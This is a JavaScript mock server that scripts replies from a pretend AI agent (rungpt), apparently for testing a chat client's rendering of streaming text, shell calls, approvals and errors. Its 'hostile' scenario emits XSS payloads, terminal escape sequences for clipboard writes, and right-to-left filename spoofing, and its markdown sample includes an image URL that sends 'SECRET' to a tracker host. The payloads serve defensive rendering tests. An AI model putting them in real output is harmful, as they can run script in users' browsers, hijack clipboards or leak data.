// What the pretended server plays when something is asked.
const sleep = (world, millis) => new Promise((resolve) => setTimeout(resolve, millis * world.pace));
let ids = 0;
const next = (prefix) => `${prefix}${++ids}`;

export async function perform(world, id, message, text) {
  world.append(id, "message.user", { message, text });
  const conversation = world.conversations.get(id);
  if (conversation.title === "") world.state(id, { title: text.slice(0, 48) });
  const turn = next("t");
  world.stopped.delete(id);
  world.append(id, "turn.started", { turn, cause: "user" });
  world.state(id, { state: "running" });
  const end = await play(world, id, turn, text);
  world.append(id, "turn.finished", { turn, canContinue: end !== "done", reason: end, ...(end === "limit" ? { detail: "10 calls in a row." } : {}) });
  world.state(id, { state: "idle" });
}

async function play(world, id, turn, text) {
  if (/approv|network|fetch/i.test(text)) return approval(world, id, turn);
  if (/error/i.test(text)) return failing(world, id, turn);
  if (/markdown|table/i.test(text)) return markdown(world, id, turn);
  if (/long|slow/i.test(text)) return slow(world, id, turn);
  if (/hostile/i.test(text)) return hostile(world, id, turn);
  return machine(world, id, turn);
}

async function say(world, id, message, text, channel = "answer", from = 0) {
  let offset = from;
  let stored = from;
  for (const piece of text.match(/.{1,6}/gs) ?? []) {
    if (world.stopped.has(id)) return false;
    world.transient(id, "message.delta", { message, offset, text: piece, channel });
    offset += piece.length;
    if (offset - stored > 60) {
      world.append(id, "message.text", { message, offset: stored, text: text.slice(stored - from, offset - from), channel });
      stored = offset;
    }
    await sleep(world, 12);
  }
  if (offset > stored) world.append(id, "message.text", { message, offset: stored, text: text.slice(stored - from), channel });
  return true;
}

function begin(world, id, turn, step) {
  const message = next("m");
  world.append(id, "message.started", { turn, message, model: world.conversations.get(id).model, step });
  return message;
}

function finish(world, id, message, reason = "stop", more = {}) {
  world.append(id, "message.finished", { message, reason, usage: { input: 1840, output: 212, estimated: false }, ...more });
}

function request(world, id, message, offset, task, args, more = {}) {
  const call = next("call");
  world.append(id, "call.requested", { call, message, ref: String(ids), task, arguments: args, raw: `<run-k7f2 action="${task}">…`, offset, action: `rungpt/${task.split(".")[0]}`, version: "1.0.0", effects: "read", ...more });
  return call;
}

async function run(world, id, call, lines, exit = 0, stream = "stdout", pause = 120) {
  world.append(id, "call.started", { call });
  const started = Date.now();
  let offset = 0;
  for (const line of lines) {
    const bytes = Buffer.byteLength(line);
    world.transient(id, "call.output.delta", { call, stream, offset, text: line });
    await sleep(world, pause);
    world.append(id, "call.output", { call, stream, offset, text: line, bytes });
    offset += bytes;
    if (world.stopped.has(id)) break;
  }
  const status = world.stopped.has(id) ? "cancelled" : exit === 0 ? "completed" : "failed";
  world.append(id, "call.finished", { call, status, ...(status === "cancelled" ? {} : { exit }), durationMillis: Date.now() - started, sandbox: "sb-4f21" });
  return lines.join("");
}

async function machine(world, id, turn) {
  let message = begin(world, id, turn, 1);
  await say(world, id, message, "The user wants to know about the machine. The container can tell me with a few commands.", "reasoning");
  const intro = "I will ask the container.\n\n";
  await say(world, id, message, intro);
  const call = request(world, id, message, intro.length, "system.shell", { command: "hostname; uname -sr; nproc; free -h | head -2" });
  finish(world, id, message);
  await run(world, id, call, ["\u001b[1m9f3c2a71d0be\u001b[0m\n", "Linux 6.18.0\n", "2\n", "               total        used        free\nMem:            23Gi       4.1Gi        12Gi\n"]);
  world.append(id, "message.results", { message: next("m"), results: [{ call, ref: "1", task: "system.shell", status: "completed", exit: 0, text: "…", bytes: 120 }] });
  message = begin(world, id, turn, 2);
  await say(world, id, message, "You are talking to the container **`9f3c2a71d0be`**:\n\n| What | Value |\n|---|---|\n| Kernel | Linux 6.18.0 |\n| Processors | 2 |\n| Memory | 23 GiB, of which 12 GiB are free |\n\nIt belongs to this conversation alone, and it has no network.");
  finish(world, id, message);
  return world.stopped.has(id) ? "stopped" : "done";
}

async function approval(world, id, turn) {
  let message = begin(world, id, turn, 1);
  const intro = "For that I need the network once.\n\n";
  await say(world, id, message, intro);
  const call = request(world, id, message, intro.length, "web.fetch", { url: "https://example.org/data.csv", method: "GET", note: "safe\u202Egnp.exe\u202C and \u200Bzero width" }, { action: "acme/web", version: "2.1.0", effects: "write" });
  finish(world, id, message);
  world.append(id, "approval.requested", { call, approval: next("a"), reasons: ["It uses the network: example.org:443.", "It is the first use of acme/web 2.1.0."] });
  world.state(id, { state: "waiting" });
  const decision = await new Promise((resolve) => world.decisions.set(call, resolve));
  world.append(id, "approval.decided", { call, approval: "a", decision: decision.decision, scope: decision.scope ?? "once", by: "user", reason: decision.reason });
  world.state(id, { state: "running" });
  if (decision.decision === "allow") {
    await run(world, id, call, ["HTTP/1.1 200 OK\n", "a,b\n1,2\n"]);
  } else {
    world.append(id, "call.finished", { call, status: "denied", message: decision.reason });
  }
  message = begin(world, id, turn, 2);
  await say(world, id, message, decision.decision === "allow" ? "The file has one row: `a` is 1 and `b` is 2." : "Then I will do without it.");
  finish(world, id, message);
  return "done";
}

async function failing(world, id, turn) {
  const message = begin(world, id, turn, 1);
  world.append(id, "message.retrying", { message, attempt: 2, waitMillis: 800, reason: "the server is busy (503)" });
  await sleep(world, 800);
  await say(world, id, message, "Let me lo");
  finish(world, id, message, "error", { error: { kind: "quota", message: "api.openai.com says that the account has no credit left.", remedy: "Add credit at your provider, or choose another model above." } });
  return "error";
}

async function slow(world, id, turn) {
  const message = begin(world, id, turn, 1);
  const intro = "This takes a while.\n\n";
  await say(world, id, message, intro);
  const call = request(world, id, message, intro.length, "system.shell", { command: "for i in $(seq 1 200); do echo \"step $i of 200\"; sleep 0.2; done" });
  finish(world, id, message);
  const lines = Array.from({ length: 200 }, (_, i) => `\u001b[32m✔\u001b[0m step ${i + 1} of 200${i % 17 === 0 ? " \u001b[33mwarning: slow\u001b[0m" : ""}\n`);
  await run(world, id, call, lines, 0, "stdout", 200);
  return world.stopped.has(id) ? "stopped" : "limit";
}

async function markdown(world, id, turn) {
  const message = begin(world, id, turn, 1);
  await say(
    world,
    id,
    message,
    `Here is what an answer can hold.

## Lists and code

1. Plain words, *emphasis*, **weight**, ~~errors~~ and \`inline code\`.
2. A [link to the documentation](https://example.org/docs?page=1), shown with its host.
   - [x] done
   - [ ] still to do

\`\`\`python
from pathlib import Path

def largest(folder: str, n: int = 5) -> list[Path]:
    """The n largest files below a folder."""
    files = (p for p in Path(folder).rglob("*") if p.is_file())
    return sorted(files, key=lambda p: p.stat().st_size, reverse=True)[:n]
\`\`\`

> Quoted text is set apart, and long lines wrap where they should.

| File | Size | Changed |
|:-----|-----:|:-------:|
| notes/a.md | 1,204 | today |
| data/big.csv | 48,003,112 | yesterday |

![a chart](https://tracker.example/pixel.png?d=SECRET)

\`\`\`bash
./rungpt run --yes   # starts everything
\`\`\`
`,
  );
  finish(world, id, message);
  return "done";
}

async function hostile(world, id, turn) {
  const message = begin(world, id, turn, 1);
  await say(world, id, message, `<img src=x onerror=alert(1)> <script>window.hacked=1</script> [x](javascript:alert(1)) ![p](http://127.0.0.1:1/?d=1)\n\n<iframe src=https://evil.example></iframe>\n\n`);
  const call = request(world, id, message, 10_000, "system.shell", { command: "printf '\\e]52;c;…'" });
  finish(world, id, message);
  await run(world, id, call, ["\u001b]52;c;ZXZpbA==\u0007\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 \u202Egnp.exe <b>not bold</b>\n"], 1, "stderr");
  return "done";
}

/** A few conversations, as if somebody had worked here for a while. */
export function seeded(world) {
  const day = 86_400_000;
  const titles = [
    ["Make a random file", 0.01, "idle"],
    ["Plot the temperatures of last week", 0.05, "waiting"],
    ["Rename the photographs by date", 0.08, "running"],
    ["What time is it in Tokyo?", 1.05, "idle"],
    ["Find the largest files in the workspace and say what could go", 1.3, "idle"],
    ["Convert the minutes to Markdown", 3, "idle"],
    ["Regular expression for ISO dates", 5, "idle"],
    ["Draft of the release notes", 12, "idle"],
  ];
  for (const [title, days, state] of titles) {
    const made = world.create(undefined, title, Date.now() - days * day);
    made.state = state;
  }
}
